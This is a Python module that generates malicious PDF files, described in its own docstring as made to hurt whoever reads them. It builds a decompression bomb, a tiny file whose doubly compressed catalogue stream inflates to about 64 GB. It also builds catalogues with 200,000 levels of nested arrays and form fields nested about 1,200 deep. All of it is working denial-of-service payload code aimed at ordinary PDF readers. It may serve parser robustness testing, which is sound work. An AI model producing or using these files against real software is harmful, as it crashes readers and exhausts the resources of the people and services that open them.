"""PDFs made to hurt who reads them: small files that take much memory, and some that go deep."""

from __future__ import annotations

import zlib

HEAD = b"%PDF-1.7\n"


def plain(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    out, places = HEAD, []
    for number, said in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, said)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % size + rows + end


def inflating(gigabytes: int = 64) -> bytes:
    """A few thousand bytes whose catalogue lies in a stream that inflates to gigabytes, in two steps."""
    press, block = zlib.compressobj(9), b" " * (1 << 24)
    begun, again = (press.compress(block) + press.flush(zlib.Z_FULL_FLUSH) for _n in range(2))
    once = begun + again * (gigabytes * 64)  # each block stands for itself, so the same may come again and again
    twice = zlib.compress(once, 9)
    holds = b"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n" % len(twice)
    body = HEAD + holds + twice + b"\nendstream\nendobj\n"
    places = ((0, 0, 65535), (1, len(HEAD), 0), (2, 1, 0), (1, len(body), 0))
    rows = b"".join(bytes([kind]) + at.to_bytes(4, "big") + more.to_bytes(2, "big") for kind, at, more in places)
    table = b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 2]/Root 2 0 R/Length %d>>\nstream\n" % len(rows)
    return body + table + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def nested(depth: int = 200_000) -> bytes:
    """Arrays in arrays in the catalogue."""
    return plain(
        b"<</Type/Catalog/Pages 2 0 R/X %b%b>>" % (b"[" * depth, b"]" * depth),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )


def fields_in_fields(depth: int = 1_200) -> bytes:
    """A field for a signature below fields below fields."""
    return plain(
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        *(b"<</T(a)/Kids[%d 0 R]>>" % (number + 1) for number in range(4, 4 + depth)),
        b"<</FT/Sig/T(b)>>",
    )
